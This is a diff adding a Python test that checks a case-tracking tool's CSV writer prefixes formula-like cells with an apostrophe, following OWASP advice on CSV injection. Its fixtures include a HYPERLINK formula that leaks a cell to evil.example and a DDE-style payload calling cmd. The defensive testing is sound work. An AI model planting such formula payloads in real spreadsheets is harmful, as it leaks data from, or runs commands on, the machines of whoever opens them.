@@ -381,3 +381,34 @@ def test_written_cases_read_back_equal(cases: list[Case]) -> None:
     assert list(found.cases) == cases
     assert (found.added, found.updated) == (len(cases), 0)
     assert write_cases(found.cases) == text
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_read_back() -> None:
+    """Issue 15, point 6: as OWASP recommends against CSV injection, a text cell beginning with
+    = + - @ (or a tab or carriage return) is written after an apostrophe, which a spreadsheet
+    shows as text; the Planner's reader takes the apostrophe off again."""
+    from dataclasses import replace
+
+    hostile = Case(
+        "100000001",
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "asylum",
+        date(2025, 1, 1),
+        language="+Spanish",
+        attorney="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    dashed = Case("100000002", "-2+3", "asylum", date(2025, 1, 1), attorney="\tTabbed")
+    plain = Case("100000003", "O'Brien", "asylum", date(2025, 1, 1), attorney="'quoted'")
+    text = write_cases([hostile, dashed, plain])
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["name"] == "'" + hostile.name
+    assert rows[0]["language"] == "'+Spanish"
+    assert rows[0]["attorney"].startswith("'@")
+    assert rows[1]["name"] == "'-2+3"
+    assert rows[2]["name"] == "O'Brien"
+    assert rows[2]["attorney"] == "'quoted'"
+    for row in rows:
+        for cell in row.values():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    found = read_cases(text, case_kinds=DEFAULT_CASE_MINUTES)
+    assert list(found.cases) == [hostile, replace(dashed, attorney="Tabbed"), plain]
